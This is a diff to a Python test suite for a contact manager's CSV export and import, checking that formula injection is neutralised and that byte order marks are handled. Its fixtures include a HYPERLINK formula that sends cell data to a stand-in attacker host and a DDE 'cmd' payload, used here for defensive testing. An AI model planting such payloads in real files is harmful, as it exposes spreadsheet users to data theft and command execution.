@@ -252,6 +252,73 @@ def test_csv_export_is_rfc4180_and_holds_every_table(daemon, tmp_path):
         [("followup", "pending", "quote")]
 
 
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_csv_export_neutralises_formulas_and_reads_back(daemon, tmp_path):
+    # What a spreadsheet would run: = + - @ (OWASP), and text that
+    # already begins with a quote before one of them.
+    c = add_contact(daemon, "Mallory", company="@SUM(1+1)*cmd|' /C calc'!A0",
+                    phone="+44 20 7946 0001", email="m@example.com",
+                    notes=HYPERLINK)
+    add_contact(daemon, "Quoted", company="'=already quoted",
+                notes="-2+3", email="q@example.com")
+    add_contact(daemon, "Plain", company="O'Brien & Sons",
+                notes="'tis fine", email="p@example.com")
+    daemon.call("interaction.add", contact=c["id"], kind="note",
+                note="=1+2")
+    doc = export(daemon, tmp_path, "--format", "csv", name="c.csv")
+    rows = {r["Name"]: r for r in
+            csv.DictReader(io.StringIO(doc.decode(), newline=""))}
+    m = rows["Mallory"]
+    assert m["Notes"] == "'" + HYPERLINK
+    assert m["Company"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert m["Phone"] == "'+44 20 7946 0001"
+    assert rows["Quoted"]["Company"] == "''=already quoted"
+    assert rows["Quoted"]["Notes"] == "'-2+3"
+    # Nothing else gets a quote.
+    assert rows["Plain"]["Company"] == "O'Brien & Sons"
+    assert rows["Plain"]["Notes"] == "'tis fine"
+    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r"))
+                   for r in rows.values() for v in r.values())
+    doc = export(daemon, tmp_path, "--format", "csv", "--what",
+                 "interactions", name="i.csv")
+    assert next(csv.DictReader(io.StringIO(doc.decode(), newline="")))[
+        "Note"] == "'=1+2"
+
+    # Our own import takes each guard quote off again: nothing changes.
+    r = imp(daemon, tmp_path / "c.csv")
+    assert r["counts"]["unchanged"] == 3, r
+    other = tmp_path / "other"
+    other.mkdir()
+    b = Daemon(other)
+    b.start()
+    try:
+        assert imp(b, tmp_path / "c.csv")["counts"]["added"] == 3
+        got = by_email(b)
+        assert got["m@example.com"]["notes"] == HYPERLINK
+        assert got["m@example.com"]["phone"] == "+44 20 7946 0001"
+        assert got["m@example.com"]["company"] == \
+            "@SUM(1+1)*cmd|' /C calc'!A0"
+        assert got["q@example.com"]["company"] == "'=already quoted"
+        assert got["q@example.com"]["notes"] == "-2+3"
+        assert got["p@example.com"]["notes"] == "'tis fine"
+    finally:
+        b.stop()
+
+
+def test_csv_export_with_a_byte_order_mark(daemon, tmp_path):
+    add_contact(daemon, "Jürgen Müller", email="jm@example.de")
+    plain = export(daemon, tmp_path, "--format", "csv", name="p.csv")
+    doc = export(daemon, tmp_path, "--format", "csv", "--bom", name="b.csv")
+    assert doc == b"\xef\xbb\xbf" + plain
+    assert imp(daemon, tmp_path / "b.csv")["counts"]["unchanged"] == 1
+    rc, out, err = daemon.client("--json", "export", "--format", "csv",
+                                 "--bom", "--what", "followups")
+    assert rc == 0 and json.loads(out)["document"].startswith(
+        "\ufeffID,Contact ID,"), out
+
+
 def test_json_export_holds_the_protocols_objects(daemon, tmp_path):
     c = add_contact(daemon, "Dora", email="dora@example.com")
     i = daemon.call("interaction.add", contact=c["id"], kind="note",
@@ -288,7 +355,8 @@ def test_export_refuses_bad_arguments(daemon, conn):
                         "unknown table"),
                        ([], "which format"),
                        (["--owner", "x", "--all", "--format", "csv"],
-                        "once")):
+                        "once"),
+                       (["--format", "json", "--bom"], "--bom")):
         rc, out, err = daemon.client("export", *args)
         assert rc == 2 and word in err, (args, err)
     assert conn.error("export", format="pdf")["code"] == "bad_request"
@@ -297,6 +365,10 @@ def test_export_refuses_bad_arguments(daemon, conn):
     assert conn.error("export", format="csv",
                       what="deals")["code"] == "bad_request"
     assert conn.error("export")["code"] == "bad_request"
+    assert conn.error("export", format="ics",
+                      bom=True)["code"] == "bad_request"
+    assert conn.error("export", format="csv",
+                      bom="yes")["code"] == "bad_request"
 
 
 # --- import ---
@@ -599,6 +671,10 @@ def test_archived_column_of_our_export_is_read(daemon, tmp_path):
     assert live == {"Ada Lovelace", "Carla Diaz"}
     assert [c["name"] for c in gone] == ["Bob Builder"]
     assert gone[0]["archived"] and gone[0]["stage"] == "lost"
+    # The guard quotes the export put before a phone's + and a formula
+    # are taken off.
+    assert gone[0]["notes"] == HYPERLINK
+    assert by_email(daemon)["carla@example.com"]["phone"] == "+1 555 0100"
     # Read again: the archived one is unchanged, not refused.
     r = imp(daemon, fixture("followup-export.csv"))
     assert r["counts"]["unchanged"] == 3, r
